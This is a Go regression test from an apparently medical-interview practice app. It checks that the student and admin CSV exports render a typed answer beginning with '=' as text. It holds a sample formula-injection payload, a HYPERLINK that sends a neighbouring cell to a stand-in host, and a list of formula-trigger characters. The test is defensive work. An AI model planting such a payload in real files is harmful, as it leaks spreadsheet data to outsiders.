package app

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/whitecoat/whitecoat/internal/auth"
	"github.com/whitecoat/whitecoat/internal/store"
	"github.com/whitecoat/whitecoat/internal/store/storetest"
)

// formula is what a student typed as an answer: opened in a spreadsheet,
// it would have sent the cell next to it to another site on one click.
const formula = `=HYPERLINK("http://evil.example/?x="&A1,"Open your feedback")`

// A student's typed answer starting with "=" reached the CSV exports as it
// was, where a spreadsheet runs it as a formula. Both exports of a
// student's sessions now carry it as text.
func TestCSVExportsCarryTypedFormulasAsText(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		app := newTestApp(t, db, nil)
		if _, err := app.auth.CreateUser(t.Context(), "Ana Lee", "ana@example.com", pw, auth.RoleUser); err != nil {
			t.Fatal(err)
		}
		ana := app.browser(t, "10.4.1.1")
		wantStatus(t, ana.login("ana@example.com", pw), http.StatusOK)
		r := ana.post("/api/practice/sessions", map[string]any{"profession": "pharmacy", "mode": "audio", "interviewType": "random", "format": "casper"})
		wantStatus(t, r, http.StatusCreated)
		sess := r.JSON(t)["session"].(map[string]any)
		var typedPath string
		for _, it := range sess["items"].([]any) {
			if item := it.(map[string]any); item["kind"] == "typed" {
				typedPath = "/api/practice/sessions/" + sess["id"].(string) + "/items/" + item["id"].(string) + "/typed"
				break
			}
		}
		if typedPath == "" {
			t.Fatalf("a Casper-style session without a typed part: %s", r.Body)
		}
		wantStatus(t, ana.post(typedPath, map[string]string{"text": formula}), http.StatusAccepted)
		id := ana.get("/api/auth/me").JSON(t)["user"].(map[string]any)["id"].(string)

		if _, err := app.auth.CreateUser(t.Context(), "Ada Admin", "ada@example.com", pw, auth.RoleAdmin); err != nil {
			t.Fatal(err)
		}
		admin := app.browser(t, "10.4.1.2")
		admin.enrolAdmin("ada@example.com", pw)

		for who, r := range map[string]response{
			"the student's own export":    ana.get("/api/account/export.csv"),
			"the admin's per-user export": admin.get("/api/admin/users/" + id + "/export.csv"),
		} {
			wantStatus(t, r, http.StatusOK)
			cells := csvCells(t, r.Body)
			if !slices.Contains(cells, "'"+formula) {
				t.Errorf("%s does not carry the typed answer as text:\n%s", who, r.Body)
			}
			for _, c := range cells {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s has a cell a spreadsheet would run: %q", who, c)
				}
			}
		}
	})
}

// csvCells reads every cell of a CSV file.
func csvCells(t *testing.T, body []byte) []string {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, body)
	}
	return slices.Concat(records...)
}
